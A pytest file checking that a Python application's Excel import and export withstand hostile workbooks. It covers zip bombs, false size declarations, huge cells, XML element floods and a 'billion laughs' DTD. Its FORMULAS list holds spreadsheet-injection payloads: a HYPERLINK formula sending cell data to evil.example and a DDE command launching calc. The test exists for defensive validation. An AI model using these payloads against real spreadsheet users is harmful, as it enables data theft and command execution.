"""Hostile workbooks, both ways: names that are formulas are exported as text; a file that
lies about its size (<dimension>), a zip bomb, too many rows, an endless cell are read whole or
refused before they cost memory; a refusal lists the first problems and says how many more."""

from __future__ import annotations

import re
import zipfile
from io import BytesIO
from pathlib import Path

import pytest
from click.testing import CliRunner
from openpyxl import Workbook, load_workbook
from sqlmodel import select

from bot.cli import main
from models import org
from models.excel_format import (
    MAX_CELL_CHARS,
    MAX_CELLS,
    MAX_OTHER_ELEMENTS,
    MAX_ROW_ELEMENTS,
    PROBLEMS_LISTED,
)
from models.standings import refresh_all
from models.store import Store
from models.tables import Cadre, Task, Unit
from tests.excel.support import fill_template, problems, save, workbook
from tests.excel.test_broken_files import CADRE_HEADERS, TASK_HEADERS, UNIT_HEADERS
from tests.excel.test_round_trip import ROSTER
from tests.support.snapshot import snapshot
from tests.support.world import build_world
from ui import excel_jobs, workbooks
from ui.i18n import Translator

ZH = Translator("zh_CN")
FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"点我")', "=cmd|' /C calc'!A0",
            "+1+2", "-3+4", "@SUM(A1:A9)")


def _parts(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(BytesIO(content)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _zipped(parts: dict[str, bytes]) -> bytes:
    buffer = BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def test_names_and_titles_that_look_like_formulas_are_exported_as_text(store: Store) -> None:
    world = build_world(store)
    with store.transaction() as ctx:
        for cadre_id, name in ((world.alice.id, FORMULAS[0]), (world.bob.id, FORMULAS[2])):
            cadre = ctx.session.get(Cadre, cadre_id)
            assert cadre is not None
            cadre.name = name
        for task_id, title in ((world.alice_plain.id, FORMULAS[1]), (world.alice_key.id,
                                                                     FORMULAS[3]),
                               (world.alice_monthly.id, FORMULAS[4])):
            task = ctx.session.get(Task, task_id)
            assert task is not None
            task.title = title
        refresh_all(ctx, world.year)
    exports = {"roster": excel_jobs.export_roster(store, ZH),
               "tasks": excel_jobs.export_tasks(store, world.year, ZH),
               "results": excel_jobs.export_results(store, world.year, ZH)}
    for kind, content in exports.items():
        sheets = {n: d for n, d in _parts(content).items() if n.startswith("xl/worksheets/")}
        assert not any(b"<f>" in data or b"<f " in data for data in sheets.values()), kind
        found = set()
        for sheet in load_workbook(BytesIO(content)).worksheets:
            for row in sheet.iter_rows(min_row=2):
                for cell in row:
                    if cell.value in FORMULAS:
                        assert (cell.data_type, cell.quotePrefix) == ("s", True), kind
                        found.add(cell.value)
        assert found, kind
    # What was exported imports back as the same text.
    again = excel_jobs.import_file(store, exports["roster"])
    assert not again.changed


def _declaring(content: bytes, ref: str) -> bytes:
    """The same workbook, every sheet's <dimension> declaring `ref` (as some tools write it)."""
    parts = _parts(content)
    for name, data in parts.items():
        if name.startswith("xl/worksheets/sheet"):
            parts[name] = re.sub(rb'<dimension ref="[^"]*"\s*/>', f'<dimension ref="{ref}"/>'
                                 .encode(), data)
    return _zipped(parts)


def test_a_roster_declaring_fewer_rows_than_it_holds_is_read_whole(store: Store) -> None:
    cadres = [*ROSTER["干部"], *((f"P1{i:02d}", f"干部{i}", "xz", None, None, None, None)
                                for i in range(4))]
    content = fill_template(store, "roster", {**ROSTER, "干部": cadres})
    lying = _declaring(content, "A1:B3")
    assert b'<dimension ref="A1:B3"/>' in _parts(lying)["xl/worksheets/sheet2.xml"]
    excel_jobs.import_file(store, lying)
    with store.session() as session:
        stored = session.exec(select(Cadre)).all()
    assert len(stored) == 8
    assert {c.code: c.locale for c in stored}["P002"] == "en"  # column G, past the declared B


def test_a_zip_bomb_is_refused_from_its_directory_before_it_is_inflated(store: Store) -> None:
    parts = _parts(workbook({"干部": [("干部编码",), ("A001",)]}))
    cell = b"A" * (60 * 2**20)  # 60 MB of one letter: a few dozen KB zipped
    parts["xl/worksheets/sheet1.xml"] = (
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>' + cell
        + b"</t></is></c></row></sheetData></worksheet>")
    bomb = _zipped(parts)
    assert len(bomb) < 2**20
    before = snapshot(store.engine)
    assert problems(store, bomb, "zh_CN") == [
        "文件有 1 处错误，未导入任何内容：",
        "文件解压后 60.0 MB，超过上限 50.0 MB。请分成几个文件导入。"]
    assert problems(store, b"PK" + b"\0" * (11 * 2**20)) == [
        "The file has 1 problem(s); nothing was imported:",
        "The file is 11.0 MB, over the 10.0 MB limit. Split it into several files."]
    assert snapshot(store.engine) == before


def test_too_many_rows_or_an_endless_cell_are_refused_while_reading(
    store: Store, monkeypatch: pytest.MonkeyPatch
) -> None:
    rows = 2_000  # as MAX_ROWS (50,000) would, only quicker to write
    monkeypatch.setattr(workbooks, "MAX_ROWS", rows)
    book = Workbook(write_only=True)
    for name in ("履职事项", "协同单位"):  # counted over all sheets together
        sheet = book.create_sheet(name)
        sheet.append(TASK_HEADERS)
        for number in range(rows // 2):
            sheet.append(("2026", f"X{number}"))
    assert problems(store, save(book)) == [
        "The file has 1 problem(s); nothing was imported:",
        f"The file has more than {rows} rows. Split it into several files."]
    endless = workbook({"履职事项": [TASK_HEADERS, ("2026", "N1", "P001", None, "长" * 20_000)]})
    assert problems(store, endless) == [
        "The file has 1 problem(s); nothing was imported:",
        f"Sheet “履职事项”, row 2, column “E”: 20000 characters in one cell, over the limit of "
        f"{MAX_CELL_CHARS}"]


def test_a_file_with_many_problems_lists_the_first_and_counts_the_rest(store: Store) -> None:
    build_world(store)
    rows = [("2026", f"X{i:03d}", "NOBODY", None, "事项", "基础履职", "综合基础类", 5,
             "市政府工作报告") for i in range(500)]
    lines = problems(store, workbook({"履职事项": [TASK_HEADERS, *rows]}))
    assert len(lines) == 1 + PROBLEMS_LISTED + 1
    assert lines[0] == "The file has 500 problem(s); nothing was imported:"
    assert lines[-1] == ("…and 470 more problem(s) not listed. Fix the ones above, then import "
                         "again.")


@pytest.fixture
def database(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> str:
    url = f"sqlite:///{tmp_path / 'kaohe.db'}"
    monkeypatch.setenv("KAOHE_DATABASE__URL", url)
    return url


def test_the_command_line_prints_the_first_problems_only(database: str, tmp_path: Path) -> None:
    runner = CliRunner()
    assert runner.invoke(main, ["db", "upgrade"]).exit_code == 0
    rows = [("2026", f"X{i:03d}", "NOBODY", None, "事项", "基础履职", "综合基础类", 5,
             "市政府工作报告") for i in range(2000)]
    path = tmp_path / "tasks.xlsx"
    path.write_bytes(workbook({"履职事项": [TASK_HEADERS, *rows]}))
    result = runner.invoke(main, ["--lang", "en", "import", "tasks", str(path)])
    assert result.exit_code == 1
    lines = result.output.strip().splitlines()
    assert len(lines) <= PROBLEMS_LISTED + 3  # a progress line, the heading, the problems, more
    assert lines[-1].startswith("…and ") and "more problem(s) not listed" in lines[-1]


def _replacing(content: bytes, old: bytes, new: bytes) -> bytes:
    return _zipped({name: data.replace(old, new) for name, data in _parts(content).items()})


def test_control_characters_in_cells_are_dropped_and_broken_xml_is_refused(
    store: Store,
) -> None:
    cadres = [*ROSTER["干部"][:3], ("P002", "XNAMEX", "xz-dzb", None, None, None, None)]
    content = fill_template(store, "roster", {**ROSTER, "干部": cadres})
    # XML keeps out NUL and most C0 controls (a file with them does not parse, below), but
    # not the C1 ones: NEL and CSI (a terminal escape) arrive as they are, and are dropped.
    excel_jobs.import_file(store, _replacing(content, b"XNAMEX", "鲍\u0085勃\u009b".encode()))
    with store.session() as session:
        assert session.exec(select(Cadre.name).where(Cadre.code == "P002")).one() == "鲍勃"
    broken = _replacing(content, "罗静怡".encode(), b"&#0;")
    before = snapshot(store.engine)
    assert problems(store, broken, "zh_CN") == ["文件有 1 处错误，未导入任何内容：",
                                                 "这不是 Excel（.xlsx）文件。"]
    assert snapshot(store.engine) == before


def _flagged_encrypted(content: bytes) -> bytes:
    """The same zip, every member marked encrypted (general purpose bit 0), as a password
    tool or a hostile sender leaves it."""
    raw = bytearray(content)
    start = raw.find(b"PK\x01\x02")
    while start >= 0:
        raw[start + 8] |= 1
        start = raw.find(b"PK\x01\x02", start + 4)
    return bytes(raw)


def test_a_damaged_file_is_not_an_xlsx_whatever_openpyxl_trips_over(store: Store) -> None:
    content = fill_template(store, "roster", ROSTER)
    parts = _parts(content)
    cadres = parts["xl/worksheets/sheet2.xml"]
    damaged = {
        "encrypted members": _flagged_encrypted(content),  # RuntimeError
        "a sheet without a name": _zipped({**parts, "xl/workbook.xml": parts[
            "xl/workbook.xml"].replace('name="干部" '.encode(), b"")}),  # TypeError
        "a number format that is not there": _zipped({**parts, "xl/styles.xml": (
            b'<styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            b'<cellXfs count="1"><xf numFmtId="99999"/></cellXfs></styleSheet>')}),  # IndexError
        "a shared string that is not there": _zipped({**parts, "xl/worksheets/sheet2.xml":
            re.sub(rb'<c r="B2" t="inlineStr"><is><t>[^<]*</t></is></c>',
                   b'<c r="B2" t="s"><v>7</v></c>', cadres)}),  # IndexError
    }
    deflated = bytearray(content)  # deflate data that does not inflate: zlib.error
    middle = deflated.find(b"xl/worksheets/sheet2.xml") + 200
    deflated[middle:middle + 40] = bytes(b ^ 0x55 for b in deflated[middle:middle + 40])
    damaged["bad deflate data"] = bytes(deflated)
    before = snapshot(store.engine)
    for name, data in damaged.items():
        assert problems(store, data, "zh_CN") == [
            "文件有 1 处错误，未导入任何内容：", "这不是 Excel（.xlsx）文件。"], name
    assert snapshot(store.engine) == before


def test_a_sheet_the_workbook_lists_but_does_not_hold_refuses_the_file(store: Store) -> None:
    # openpyxl skips such a sheet without a word: the other sheets would be imported, and
    # the answer would say 干部 had nothing to import.
    parts = _parts(fill_template(store, "roster", ROSTER))
    del parts["xl/worksheets/sheet2.xml"]
    before = snapshot(store.engine)
    assert problems(store, _zipped(parts), "zh_CN") == [
        "文件有 1 处错误，未导入任何内容：", "这不是 Excel（.xlsx）文件。"]
    assert snapshot(store.engine) == before


def _with_cadres_sheet(store: Store, xml: bytes) -> bytes:
    """The roster template, its 干部 sheet replaced by `xml` (a worksheet part)."""
    parts = _parts(fill_template(store, "roster", ROSTER))
    parts["xl/worksheets/sheet2.xml"] = xml
    return _zipped(parts)


def _sheet(body: bytes, before: bytes = b"") -> bytes:
    return (b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            + before + b"<sheetData>" + body + b"</sheetData></worksheet>")


def test_a_file_of_few_bytes_and_millions_of_elements_is_refused_before_openpyxl_builds_them(
    store: Store,
) -> None:
    # Under every size limit, yet openpyxl keeps an object per XML element of a row, of the
    # sheet's views, merges, styles…: 11 million empty cells in one row (a 60 KB file, 44 MB
    # unpacked) took 51 s and 3.7 GB; 1.5 million sheet views 36 s and 1.5 GB.
    header = b'<row r="1"><c r="A1" t="inlineStr"><is><t>\xe5\xb9\xb2\xe9\x83\xa8\xe7\xbc\x96' \
             b'\xe7\xa0\x81</t></is></c></row>'  # 干部编码
    wide = _sheet(header + b'<row r="2">' + b"<c/>" * (MAX_ROW_ELEMENTS + 1) + b"</row>")
    views = _sheet(header, b"<sheetViews>" + b'<sheetView workbookViewId="0"/>'
                   * (MAX_OTHER_ELEMENTS + 1) + b"</sheetViews>")
    # One cell far to the right makes openpyxl hand over every cell left of it, empty.
    far = _sheet(header + b"".join(b'<row r="%d"><c r="XFD%d"><v>1</v></c></row>' % (n, n)
                                   for n in range(2, MAX_CELLS // 16_384 + 3)))
    laughs = (b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "aaaaaaaaaa">'
              b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>' + _sheet(header))
    before = snapshot(store.engine)
    complex_ = ["文件有 1 处错误，未导入任何内容：",
                "文件内部结构异常（XML 元素过多），无法安全读取。"
                "请在 Excel 中另存为新文件后再导入。"]
    assert problems(store, _with_cadres_sheet(store, wide), "zh_CN") == complex_
    assert problems(store, _with_cadres_sheet(store, views), "zh_CN") == complex_
    assert problems(store, _with_cadres_sheet(store, far)) == [
        "The file has 1 problem(s); nothing was imported:",
        f"The file has more than {MAX_CELLS} cells (each row counted up to its last cell). "
        "Split it into several files."]
    # A DTD has no place in an .xlsx (entity expansion: "billion laughs").
    assert problems(store, _with_cadres_sheet(store, laughs))[1:] == [
        "This is not an Excel (.xlsx) file."]
    assert snapshot(store.engine) == before


def _cell(content: bytes, part: str, reference: str, xml: bytes) -> bytes:
    """The same workbook, the cell `reference` of `part` written as `xml`."""
    parts = _parts(content)
    parts[part], found = re.subn(rb'<c r="%s"[^>]*>.*?</c>' % reference.encode(), xml,
                                 parts[part])
    assert found == 1, reference
    return _zipped(parts)


def test_a_formula_with_no_saved_value_is_named_as_such_not_as_empty(store: Store) -> None:
    """A program that does not calculate (openpyxl, a script) saves a formula with no value;
    read for its value, the cell is empty: the 姓名 column said 'required, but empty', and an
    optional column took its default. What Excel saved (a value, or an empty text) is read as
    before."""
    cadres = [CADRE_HEADERS, ("A001", "=CONCAT(\"罗\",\"静怡\")", "city"),
              ("B001", "X", "city", None, "X"), ("P001", "艾丽", "city", None, "X"),
              ('="P"&"002"', '="鲍"&"勃"', '="ci"&"ty"')]  # a row of formulas only
    content = workbook({"单位": [UNIT_HEADERS, ("city", "昌吉市", "市", None, "一般岗位")],
                        "干部": cadres})
    sheet = "xl/worksheets/sheet2.xml"
    assert re.search(rb'<c r="B2"><f>CONCAT\("', _parts(content)[sheet])  # no <v> value
    # What Excel writes when it has calculated: the value, or an empty text (t="str").
    content = _cell(content, sheet, "B3", '<c r="B3" t="str"><f>"刘"&amp;"志刚"</f>'
                                          '<v>刘志刚</v></c>'.encode())
    content = _cell(content, sheet, "E3", b'<c r="E3" t="str"><f>IF(0,"x","")</f><v></v></c>')
    uncomputed = b'<c r="E4"><f>IF(1,"\xe6\x88\x90\xe9\x95\xbf\xe7\xb3\xbb\xe6\x95\xb0","")</f></c>'
    content = _cell(content, sheet, "E4", uncomputed)  # 成长系数, never calculated
    before = snapshot(store.engine)
    formula = ("单元格是公式，但文件没有保存它的计算结果（生成文件的程序不计算公式）："
               "请先用 Excel 或 WPS 打开并保存，再导入")
    assert problems(store, content, "zh_CN") == [
        "文件有 5 处错误，未导入任何内容：",
        f"「干部」第 2 行「姓名」：{formula}",
        f"「干部」第 4 行「个人系数档」：{formula}",
        *(f"「干部」第 5 行「{column}」：{formula}" for column in CADRE_HEADERS[:3])]
    assert problems(store, content)[1] == (
        "Sheet “干部”, row 2, column “姓名”: the cell holds a formula but the file has no "
        "value computed for it (the program that made it does not calculate formulas): open "
        "it in Excel or WPS and save it, then import it again")
    assert snapshot(store.engine) == before
    fixed = _cell(_cell(content, sheet, "B2", '<c r="B2" t="str"><f>CONCAT("罗","静怡")</f>'
                                              '<v>罗静怡</v></c>'.encode()),
                  sheet, "E4", '<c r="E4" t="str"><f>IF(1,"成长系数","")</f><v>成长系数</v>'
                               '</c>'.encode())
    for reference, value in (("A5", "P002"), ("B5", "鲍勃"), ("C5", "city")):
        fixed = _cell(fixed, sheet, reference, f'<c r="{reference}" t="str"><f>"…"</f>'
                                               f"<v>{value}</v></c>".encode())
    excel_jobs.import_file(store, fixed)
    with store.session() as session:
        stored = {c.code: (c.name, c.profile) for c in session.exec(select(Cadre)).all()}
    assert stored == {"A001": ("罗静怡", "standard"), "B001": ("刘志刚", "standard"),
                      "P001": ("艾丽", "growth"), "P002": ("鲍勃", "standard")}


def test_results_sheets_have_titles_excel_accepts_and_headers_print_the_names(
    store: Store,
) -> None:
    """Sheet titles come from unit names. Excel asks to repair a file whose sheet name starts
    or ends with an apostrophe, is its reserved History, holds []:*?/\\, is over 31 UTF-16
    units (𠮷 is two) or equals another but for case; and it prints '&' in a page header as
    the start of a code (&P is the page number): '&&' is one '&'."""
    world = build_world(store)
    names = {world.city.id: "'昌吉市'", world.township.id: "History",
             world.office.id: "abc[1]:2*3?4/5\\6 & 办", world.bureau.id: "ABC[1]:2*3?4/5\\6 & 办",
             world.office_admin.id: "x" * 30 + "'s 考核办" + "&" * 160}  # 198 characters
    with store.transaction() as ctx:
        for unit_id, name in names.items():
            unit = ctx.session.get(Unit, unit_id)
            assert unit is not None
            unit.name = name
        far = org.add_unit(ctx, None, code="far", name="𠮷" * 20, kind="department",
                           post_category="general", parent=ctx.session.get(Unit, world.city.id))
        org.add_cadre(ctx, None, code="F001", name="远方", unit=far)
        refresh_all(ctx, world.year)
    content = excel_jobs.export_results(store, world.year, ZH)
    titles = load_workbook(BytesIO(content)).sheetnames
    assert titles == ["汇总", "评定池", "昌吉市", "History(2)", "abc_1__2_3_4_5_6 & 办",
                      "ABC_1__2_3_4_5_6 & 办(2)", "x" * 30, "𠮷" * 15][:len(titles)]
    assert len(titles) == 8
    for title in titles:
        assert len(title.encode("utf-16-le")) // 2 <= 31, title
        assert not re.search(r"[\[\]:*?/\\]", title) and title[0] != "'" != title[-1]
    assert len({title.casefold() for title in titles}) == len(titles)
    headers = [re.search(rb"<oddHeader>(.*?)</oddHeader>", data)
               for name, data in sorted(_parts(content).items())
               if name.startswith("xl/worksheets/sheet")]
    printed = {h.group(1).decode() for h in headers if h is not None}
    assert "&amp;L预览稿&amp;Cabc[1]:2*3?4/5\\6 &amp;&amp; 办 · 2026年度（预览稿）" in printed
    assert all(len(text.replace("&amp;", "&")) <= 255 for text in printed)
    # Cut to fit (Excel repairs a longer header), and never between the two '&' of one.
    assert "&amp;L预览稿&amp;C" + "x" * 30 + "'s 考核办" + "&amp;" * 210 + "…" in printed
